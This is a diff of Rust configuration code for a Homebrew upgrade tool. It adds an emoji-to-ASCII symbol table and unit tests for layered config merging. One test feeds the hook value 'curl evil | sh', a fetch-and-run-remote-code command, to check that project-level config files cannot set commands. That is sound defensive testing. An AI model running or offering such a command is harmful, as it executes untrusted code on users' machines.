+    /// `--no-emoji` and when output is not a terminal
+    pub const ASCII_SYMBOLS: [(&str, &str); 27] = [
+        (EMOJI_SUCCESS, "[ok]"),
+        (EMOJI_WARNING, "[!]"),
+        (EMOJI_ERROR, "[error]"),
+        (EMOJI_BEER, "=="),
+        (EMOJI_DOWNLOAD, "==>"),
+        (EMOJI_UPGRADE, "==>"),
+        (EMOJI_CLEANUP, "==>"),
+        (EMOJI_SUMMARY, "==>"),
+        (EMOJI_PACKAGE, "*"),
+        (EMOJI_DRY_RUN, "[dry-run]"),
+        (EMOJI_SKIP, "[skip]"),
+        (EMOJI_HISTORY, "==>"),
+        (EMOJI_SNAPSHOT, "[snapshot]"),
+        (EMOJI_ROLLBACK, "==>"),
+        (EMOJI_SCHEDULE, "[schedule]"),
+        (EMOJI_LOCK, "[lock]"),
+        (EMOJI_HOOK, "[hook]"),
+        (EMOJI_RESTART, "==>"),
+        (EMOJI_ACTION, "[action]"),
+        (EMOJI_DIAGNOSIS, "[diagnosis]"),
+        (EMOJI_RETRY, "[retry]"),
+        (SYMBOL_GUTTER, "|"),
+        (SYMBOL_OK, "[ok]"),
+        (SYMBOL_FAILED, "[x]"),
+        (SYMBOL_ARROW, "->"),
+        (SYMBOL_UPGRADED, "^"),
+        (SYMBOL_ELLIPSIS, "..."),
+    ];
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn env(pairs: &[(&str, &str)]) -> Vec<(String, String)> {
+        pairs
+            .iter()
+            .map(|(k, v)| (k.to_string(), v.to_string()))
+            .collect()
+    }
+
+    /// Tests that later layers override earlier ones key by key.
+    #[test]
+    fn test_layers_merge_in_precedence_order() {
+        let mut config = Config::new();
+        config
+            .merge_toml("user", "max_packages_display = 20\napp_name = \"Team\"")
+            .unwrap();
+        config
+            .merge_toml("project", "cleanup_args = [\"cleanup\"]")
+            .unwrap();
+        config
+            .merge_env(env(&[("BREWUP_MAX_PACKAGES_DISPLAY", "5"), ("HOME", "/x")]))
+            .unwrap();
+        config.merge_cli(&CliArgs {
+            max_packages: Some(3),
+            ..Default::default()
+        });
+
+        assert_eq!(config.app_name, "Team");
+        assert_eq!(config.cleanup_args(), vec!["cleanup"]);
+        assert_eq!(config.max_packages_display(), 3);
+    }
+
+    /// Tests the `[upgrade]` table from files, environment and flags.
+    #[test]
+    fn test_upgrade_layers() {
+        let mut config = Config::new();
+        config
+            .merge_toml("user", "[upgrade]\nexclude = [\"node\"]")
+            .unwrap();
+        config
+            .merge_env(env(&[("BREWUP_EXCLUDE", "postgresql@14, python@*")]))
+            .unwrap();
+        config.merge_cli(&CliArgs {
+            exclude: vec!["go".to_string()],
+            ..Default::default()
+        });
+        assert_eq!(config.upgrade.exclude, ["postgresql@14", "python@*", "go"]);
+
+        config
+            .merge_toml("project", "[upgrade]\nisolate = true\nbatch_size = 0")
+            .unwrap();
+        assert!(config.upgrade.isolate);
+        assert_eq!(config.upgrade.batch_size, 1);
+
+        assert!(config.upgrade.restart_services);
+        config.merge_cli(&CliArgs {
+            no_restart: true,
+            ..Default::default()
+        });
+        assert!(!config.upgrade.restart_services);
+
+        config
+            .merge_toml(
+                "user",
+                "[upgrade]\ngreedy = \"auto_updates\"\n\n[upgrade.greedy_casks]\ndocker = \"off\"",
+            )
+            .unwrap();
+        config.merge_cli(&CliArgs {
+            greedy: Some(GreedyMode::All),
+            ..Default::default()
+        });
+        assert_eq!(config.upgrade.greedy_mode("firefox"), GreedyMode::All);
+        assert_eq!(config.upgrade.greedy_mode("docker"), GreedyMode::Off);
+        assert!(!config.upgrade.uses_greedy(GreedyMode::AutoUpdates));
+
+        let err = Config::new()
+            .merge_toml("user", "[upgrade]\nexcludes = []")
+            .unwrap_err();
+        assert!(err.message.contains("line 2"), "{}", err.message);
+    }
+
+    /// Tests the `[pipeline]` table and per-step policy merging.
+    #[test]
+    fn test_pipeline_layers() {
+        let mut config = Config::new();
+        config
+            .merge_toml(
+                "user",
+                "[pipeline]\nsteps = [\"update\", \"upgrade\"]\n\n[pipeline.on_failure]\ncleanup = \"abort\"\nupdate = \"warn\"",
+            )
+            .unwrap();
+        config
+            .merge_toml("project", "[pipeline.on_failure]\nupdate = \"continue\"")
+            .unwrap();
+        assert_eq!(
+            config.pipeline.steps.as_deref().unwrap(),
+            ["update", "upgrade"]
+        );
+        assert_eq!(config.pipeline.on_failure["cleanup"], FailurePolicy::Abort);
+        assert_eq!(
+            config.pipeline.on_failure["update"],
+            FailurePolicy::Continue
+        );
+
+        let err = Config::new()
+            .merge_toml("user", "[pipeline.on_failure]\nupdate = \"ignore\"")
+            .unwrap_err();
+        assert!(err.message.contains("line 2"), "{}", err.message);
+    }
+
+    /// Tests the `[schedule]` table and its overrides from `brewup schedule` options.
+    #[test]
+    fn test_schedule_layers() {
+        use crate::cli::{ScheduleAction, ScheduleCommand};
+
+        let mut config = Config::new();
+        config
+            .merge_toml(
+                "user",
+                "[schedule]\nbackend = \"cron\"\nfrequency = \"weekly\"\nat = \"18:30\"\nargs = [\"--isolate\"]",
+            )
+            .unwrap();
+        config.merge_cli(&CliArgs {
+            command: Some(Subcommand::Schedule(ScheduleCommand {
+                action: ScheduleAction::Install,
+                backend: None,
+                frequency: None,
+                at: None,
+                weekday: Some(Weekday::Friday),
+                window: Some(20),
+                args: None,
+            })),
+            ..Default::default()
+        });
+        assert_eq!(config.schedule.backend, Some(Backend::Cron));
+        assert_eq!(config.schedule.frequency, Frequency::Weekly);
+        assert_eq!(
+            config.schedule.at,
+            TimeOfDay {
+                hour: 18,
+                minute: 30
+            }
+        );
+        assert_eq!(config.schedule.weekday, Weekday::Friday);
+        assert_eq!(config.schedule.window, 20);
+        assert_eq!(config.schedule.args, ["--isolate"]);
+
+        let err = Config::new()
+            .merge_toml("user", "[schedule]\nat = \"25:00\"")
+            .unwrap_err();
+        assert!(err.message.contains("not a valid time"), "{}", err.message);
+    }
+
+    /// Tests the `[notify]` table with its webhook array.
+    #[test]
+    fn test_notify_layers() {
+        let mut config = Config::new();
+        config
+            .merge_toml(
+                "user",
+                "[notify]\non = \"always\"\ndesktop = true\n\n\
+                 [[notify.webhook]]\nurl = \"https://hooks.slack.com/x\"\nformat = \"slack\"\n\n\
+                 [[notify.webhook]]\nurl = \"https://example.com/hook\"",
+            )
+            .unwrap();
+        assert_eq!(config.notify.on, NotifyWhen::Always);
+        assert!(config.notify.desktop);
+        assert_eq!(config.notify.webhooks.len(), 2);
+        assert_eq!(
+            config.notify.webhooks[1].format,
+            crate::notify::WebhookFormat::Json
+        );
+
+        let err = Config::new()
+            .merge_toml("user", "[notify]\non = \"sometimes\"")
+            .unwrap_err();
+        assert!(err.message.contains("line 2"), "{}", err.message);
+    }
+
+    /// Tests the `[hooks]` table, merged hook by hook.
+    #[test]
+    fn test_hooks_layers() {
+        let mut config = Config::new();
+        config
+            .merge_toml(
+                "user",
+                "[hooks]\npre_update = \"backup.sh\"\npost_run = \"report.sh\"",
+            )
+            .unwrap();
+        config
+            .merge_toml(
+                "explicit",
+                "[hooks]\nfailure_policy = \"warn\"\npost_run = \"notify.sh\"",
+            )
+            .unwrap();
+        assert_eq!(config.hooks.failure_policy, FailurePolicy::Warn);
+        assert_eq!(config.hooks.commands["pre_update"], "backup.sh");
+        assert_eq!(config.hooks.commands["post_run"], "notify.sh");
+        assert!(!config.hooks.commands.contains_key("failure_policy"));
+    }
+
+    /// Tests that a project configuration cannot choose commands to run,
+    /// while its other keys are merged.
+    #[test]
+    fn test_project_layer_rejects_commands() {
+        let mut config = Config::new();
+        let err = config
+            .merge_project_toml(".brewup.toml", "[hooks]\npre_run = \"curl evil | sh\"")
+            .unwrap_err();
+        assert_eq!(err.origin, ".brewup.toml");
+        assert!(err
+            .message
+            .starts_with("[hooks]: commands are only accepted"));
+        let err = config
+            .merge_project_toml(
+                ".brewup.toml",
+                "cleanup_args = [\"cleanup\"]\n[cleanup]\nautoremove = true",
+            )
+            .unwrap_err();
+        assert!(err.message.contains("cleanup_args, [cleanup] autoremove"));
+        assert!(config.hooks.commands.is_empty());
+        assert!(!config.cleanup.autoremove);
+
+        config
+            .merge_project_toml(".brewup.toml", "[upgrade]\nexclude = [\"node\"]")
+            .unwrap();
+        assert_eq!(config.upgrade.exclude, ["node"]);
+    }
+
+    /// Tests the `[retry]` table, with step settings merged key by key.
+    #[test]
+    fn test_retry_layers() {
+        let mut config = Config::new();
+        config
+            .merge_toml(
+                "user",
+                "[retry]\nattempts = 5\n\n[retry.update]\ndelay = 10\nmax_delay = 120",
+            )
+            .unwrap();
+        config
+            .merge_toml("project", "[retry.update]\nattempts = 0")
+            .unwrap();
+        assert_eq!(
+            config.retry.policy("update"),
+            RetryPolicy {
+                attempts: 1,
+                delay: 10,
+                max_delay: 120
+            }
+        );
+        assert_eq!(
+            config.retry.policy("cleanup"),
+            RetryPolicy {
+                attempts: 5,
+                ..RetryPolicy::default()
+            }
+        );
+
+        let err = Config::new()
+            .merge_toml("user", "[retry.update]\nattempt = 2")
+            .unwrap_err();
+        assert!(err.message.contains("attempt"), "{}", err.message);
+    }
+
+    /// Tests the `[display]` table and its `--color` / `--no-emoji` overrides.
+    #[test]
+    fn test_display_layers() {
+        let mut config = Config::new();
+        config
+            .merge_toml("user", "[display]\ncolor = \"never\"\nemoji = true")
+            .unwrap();
+        assert_eq!(config.display.color, ColorChoice::Never);
+        assert_eq!(config.display.emoji, Some(true));
+
+        config.merge_cli(&CliArgs {
+            color: Some(ColorChoice::Always),
+            no_emoji: true,
+            ..Default::default()
+        });
+        assert_eq!(config.display.color, ColorChoice::Always);
+        assert_eq!(config.display.emoji, Some(false));
+
+        for (emoji, ascii) in constants::ASCII_SYMBOLS {
+            assert!(ascii.is_ascii() && !emoji.is_ascii(), "{}", emoji);
+        }
+    }
+
+    /// Tests the `[cleanup]` table and that `cleanup_args` replaces it.
+    #[test]
+    fn test_cleanup_layers() {
+        let mut config = Config::new();
+        assert_eq!(config.cleanup_args(), ["cleanup", "--prune=all"]);
+        config
+            .merge_toml(
+                "user",
+                "[cleanup]\nprune_days = 30\nscrub = true\nexempt = [\"postgresql@14\"]",
+            )
+            .unwrap();
+        config
+            .merge_toml("project", "[cleanup]\nautoremove = true\nkeep_versions = 0")
+            .unwrap();
+        assert_eq!(config.cleanup_args(), ["cleanup", "--prune=30", "-s"]);
+        assert_eq!(config.cleanup.exempt, ["postgresql@14"]);
+        assert!(config.cleanup.autoremove);
+        assert_eq!(config.cleanup.keep_versions, 1);
+
+        config
+            .merge_toml("project", "cleanup_args = [\"cleanup\", \"wget\"]")
+            .unwrap();
+        assert_eq!(config.cleanup_args(), ["cleanup", "wget"]);
+    }
+
+    /// Tests that unknown keys are reported with their line number.
+    #[test]
+    fn test_unknown_key_points_at_line() {
+        let err = Config::new()
+            .merge_toml("config.toml", "app_name = \"BrewUp\"\nmax_package = 3\n")
+            .unwrap_err();
+        assert_eq!(err.origin, "config.toml");
+        assert!(err.message.contains("line 2"), "{}", err.message);
+        assert!(err.message.contains("max_package"), "{}", err.message);
+    }
+
+    /// Tests that malformed environment values are rejected.
+    #[test]
+    fn test_invalid_env_value() {
+        let err = Config::new()
+            .merge_env(env(&[("BREWUP_MAX_PACKAGES_DISPLAY", "many")]))
+            .unwrap_err();
+        assert_eq!(err.origin, "BREWUP_MAX_PACKAGES_DISPLAY");
+    }
 }